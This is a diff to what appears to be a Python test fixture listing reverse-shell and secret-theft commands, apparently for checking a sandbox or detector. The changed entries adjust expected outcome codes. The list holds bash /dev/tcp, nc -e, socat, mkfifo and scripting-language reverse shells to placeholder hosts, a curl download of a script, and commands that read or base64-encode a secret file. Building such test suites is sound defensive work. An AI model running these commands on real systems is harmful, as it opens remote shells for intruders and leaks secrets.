@@ -90,7 +90,7 @@ LOOT = ("id", "cat SECRET")
 ATTACKS = [
     Attack("bash to /dev/tcp", "bash -c 'bash -i >& /dev/tcp/A/P 0>&1'", "WSNI", talk=WHO),
     Attack("bash to /dev/tcp, then the secret", "bash -c 'bash -i >& /dev/tcp/A/P 0>&1'", "WSNIC", talk=LOOT),
-    Attack("python3 -c", _python(SHELL + "import subprocess;subprocess.call(['/bin/sh','-i'])"), "WSI", talk=WHO),
+    Attack("python3 -c", _python(SHELL + "import subprocess;subprocess.call(['/bin/sh','-i'])"), "WSNI", talk=WHO),
     Attack(
         "python3 -c with a terminal, then a download",
         _python(SHELL + "import pty;pty.spawn('/bin/bash')"),
@@ -98,17 +98,17 @@ ATTACKS = [
         talk=("id", "curl -s http://A/x.sh -o TMP.sh"),
     ),
     Attack("python3 -c, then the secret", _python(SHELL + "os.execl('/bin/sh','sh')"), "WSC", talk=LOOT),
-    Attack("perl -e", f"perl -e {shlex.quote(PERL)}", "WSI", talk=WHO),
+    Attack("perl -e", f"perl -e {shlex.quote(PERL)}", "WSNI", talk=WHO),
     Attack("perl -e, then the secret", f"perl -e {shlex.quote(PERL)}", "WSIC", talk=LOOT),
-    Attack("php -r", f"php -r {shlex.quote(PHP)}", "WSI", talk=WHO, needs=["php"]),
+    Attack("php -r", f"php -r {shlex.quote(PHP)}", "WSNI", talk=WHO, needs=["php"]),
     Attack("nc -e", "nc.traditional -e /bin/sh A P", "WSN", "WS", talk=WHO, needs=["nc.traditional"]),
     Attack("ncat --exec", "ncat --exec /bin/bash A P", "WSN", "WS", talk=WHO, needs=["ncat"]),
     Attack(
         "mkfifo and nc", "mkfifo TMP.f;cat TMP.f|/bin/sh -i 2>&1|nc A P >TMP.f", "WSNI", "WSI", talk=WHO, needs=["nc"]
     ),
     Attack("socat", "socat TCP:A:P EXEC:/bin/sh", "WSN", "WS", talk=WHO, needs=["socat"]),
-    Attack("ruby -rsocket", f"ruby -rsocket -e {shlex.quote(RUBY)}", "WS", talk=WHO, needs=["ruby"]),
-    Attack("node -e", f"node -e {shlex.quote(NODE)}", "WS", talk=WHO, needs=["node"]),
+    Attack("ruby -rsocket", f"ruby -rsocket -e {shlex.quote(RUBY)}", "WSN", talk=WHO, needs=["ruby"]),
+    Attack("node -e", f"node -e {shlex.quote(NODE)}", "WSN", talk=WHO, needs=["node"]),
     Attack("cat a secret", "cat SECRET", "WC", proof="none"),
     Attack("base64 a secret", "base64 -w0 SECRET", "WC", proof=r"\w{20}"),
     Attack("cp a secret", "cp SECRET TMP.t && echo done", "WC", proof="done"),
